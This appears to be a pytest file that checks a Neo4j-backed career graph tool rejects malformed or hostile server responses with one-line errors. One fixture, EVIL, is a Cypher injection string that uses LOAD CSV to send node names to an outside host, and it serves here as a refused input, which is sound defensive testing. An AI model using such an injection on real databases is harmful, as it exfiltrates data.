"""What a server says is looked at like any input: no name of its becomes a query, no type a traceback."""

import json
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any

import neo4j
import numpy as np
import pandas as pd
import pytest

from careergraph.errors import UserError
from careergraph.exchange.neo4j import compare
from careergraph.exchange.neo4j.compare import found_digests, kept_digests, listed
from careergraph.exchange.neo4j.totals import changed, checked, totals
from careergraph.graph.session import CareerGraph, FetchedTexts
from careergraph.store.neo4j.rows import dressed
from careergraph.store.neo4j.state import check_whole, state_of
from careergraph.store.tables import Tables
from careergraph.vocabulary.graph import GRAPH
from tests.store.island import island, tables_of

SHOWN = "bolt://h"
EVIL = "Cadre) WITH x LOAD CSV FROM 'http://elsewhere/' + x.name AS l RETURN count(x) //"


@pytest.fixture(scope="module")
def tables(tmp_path_factory: pytest.TempPathFactory) -> Tables:
    return dressed(tables_of(island(tmp_path_factory.mktemp("island") / "g.graph")))


class Answering:
    """A server that answers every question in one way and remembers them."""

    shown = SHOWN

    def __init__(self, *rows: Any) -> None:
        self.found, self.asked = list(rows), list[str]()

    def rows(self, text: str, **parameters: Any) -> Any:
        self.asked.append(text)
        return self.found

    values = rows


def refused(work: Callable[[], object]) -> str:
    with pytest.raises(UserError) as told:
        work()
    assert "\n" not in str(told.value)
    return str(told.value)


def test_totals_come_back_as_they_were_kept(tables: Tables) -> None:
    found = totals(tables)
    assert found.keys() == GRAPH.tables.keys()
    assert checked(json.dumps(found), SHOWN) == found


def test_every_property_of_a_copy_is_declared(tables: Tables) -> None:
    for name, frame in tables.items():
        assert set(frame.columns) - {"from", "to"} == {*GRAPH.tables[name].names}


GOOD = {"by": ["name"], "sums": ["first_month"], "rows": 1, "cuts": None, "digest": "0" * 64}


@pytest.mark.parametrize(
    "kept",
    [
        {EVIL: GOOD}, {"CareergraphCopy": GOOD}, {"cadre": GOOD}, {"Cadre ": GOOD}, {"": GOOD},
        *(
            {"Cadre": GOOD | changes}
            for changes in (
                {"by": [EVIL]}, {"by": ["name` //"]}, {"sums": ["x) //"]}, {"by": ["password"]},
                {"by": "name"}, {"by": None}, {"by": [["name"]]}, {"by": [5]}, {"sums": {"a": 1}},
                {"rows": "1"}, {"rows": None}, {"rows": True}, {"cuts": "abc"}, {"cuts": [5]}, {"cuts": 7},
                {"digest": 5}, {"digest": None}, {"digest": "x"}, {"more": 1},
            )
        ),
        {"Cadre": {}}, {"Cadre": []}, {"Cadre": None}, {"AT": GOOD | {"by": [], "sums": [], "cuts": ["a"]}},
        [], ["Cadre"], 5, "Cadre",
    ],
    ids=lambda kept: json.dumps(kept)[:50],
)  # fmt: skip
def test_totals_that_no_copy_kept_are_one_line(kept: Any) -> None:
    told = refused(lambda: checked(json.dumps(kept), SHOWN))
    assert told.startswith(SHOWN) and "--force" in told


@pytest.mark.parametrize(
    "text", ["{", "[" * 100_000, 5, ["{}"], {"a": 1}, b"\xff", True, 1.5], ids=ascii
)
def test_totals_that_are_no_json_are_one_line(text: Any) -> None:
    refused(lambda: checked(text, SHOWN))


@pytest.mark.parametrize("format", ["1", 1.0, True, [1], {"a": 1}], ids=ascii)
def test_a_state_of_another_type_is_one_line(format: Any) -> None:
    row = {"format": format, "whole": True, "source": "s", "totals": "{}", "at": "t"}
    refused(lambda: state_of(Answering(row)))  # type: ignore[arg-type]


@pytest.mark.parametrize("whole", ["true", 1, [True], None], ids=ascii)
def test_only_yes_is_whole(whole: Any) -> None:
    row = {"format": 1, "whole": whole, "source": 5, "totals": 5, "at": [], "check": 5}
    refused(lambda: check_whole(Answering(row)))  # type: ignore[arg-type]


def test_a_value_that_no_copy_writes_is_a_change(tables: Tables) -> None:
    kept = {"Year": totals(tables)["Year"]}
    years = len(tables["Year"])

    class Strange(Answering):
        def values(self, text: str, **parameters: Any) -> Any:
            if text.endswith("count(x)"):
                return [(years,)]
            strange = [[neo4j.time.Date(2007, 1, 1), b"\0", 1, 3, 1]]
            return [(strange,)] if "collect" in text else strange

    assert changed(Strange(), kept) == ["Year"]  # type: ignore[arg-type]


STRANGE_IDS = [5, None, ["a"], {"a": 1}, True, 1.5, neo4j.time.Date(2007, 1, 1), b"x"]


def test_digests_of_other_types_are_unknown() -> None:
    rows = [("a", 1), ("b", "1"), ("c", None), ("d", 1.5), ("e", [1]), ("f", 1), ("f", 2)]
    rows += [(each, 1) for each in STRANGE_IDS]  # type: ignore[misc]
    kept = kept_digests(Answering(*rows))["Cadre"]  # type: ignore[arg-type]
    assert kept.index.tolist() == ["a", "b", "c", "d", "e", "f"]
    assert kept.dropna().to_dict() == {"a": 1}


def test_ids_of_other_types_belong_to_nobody(
    tables: Tables, monkeypatch: pytest.MonkeyPatch
) -> None:
    owners = np.empty(len(STRANGE_IDS) + 2, dtype=object)
    owners[:] = ["a", "a", *STRANGE_IDS]
    rows = owners, np.ones(len(owners), dtype=np.uint64)
    monkeypatch.setattr(compare, "_streamed", lambda *_: rows)
    found, strays = found_digests(Answering(), tables)  # type: ignore[arg-type]
    assert found["Cadre"].index.tolist() == ["a"]
    assert strays["Cadre"] == len(STRANGE_IDS)


def test_properties_of_other_types_are_listed(tables: Tables) -> None:
    ids = tables["Cadre"]["id"].tolist()[:1]
    there = [
        {"p": {"id": strange, "name": strange, "x y": strange}, "f": strange, "t": strange}
        for strange in (*STRANGE_IDS, *ids)
    ]
    found = {"Cadre": compare.Difference(ids, [], [])}
    rows = listed(Answering(*there), tables, found, 9)  # type: ignore[arg-type]
    assert {"name", "x y"} <= set(rows["property"].dropna())


@pytest.mark.parametrize("strange", ["text", [1], {"a": 1}, 1.5, True], ids=ascii)
@pytest.mark.parametrize("question", ["chain", "break-counts", "direct-promotions"])
def test_an_answer_that_fits_no_question_is_one_line(question: str, strange: Any) -> None:
    class Store:
        def query(self, text: str, parameters: Any, *, name: str, variants: Any = None) -> Any:
            return pd.DataFrame({"rows": [[[strange]]], "level": [strange], "months": [strange]})

        def close(self) -> None: ...

    texts = FetchedTexts(SimpleNamespace(shown=SHOWN))  # type: ignore[arg-type]
    with CareerGraph(Store(), texts) as graph:  # type: ignore[arg-type]
        assert refused(lambda: graph.ask(question)).startswith(SHOWN)
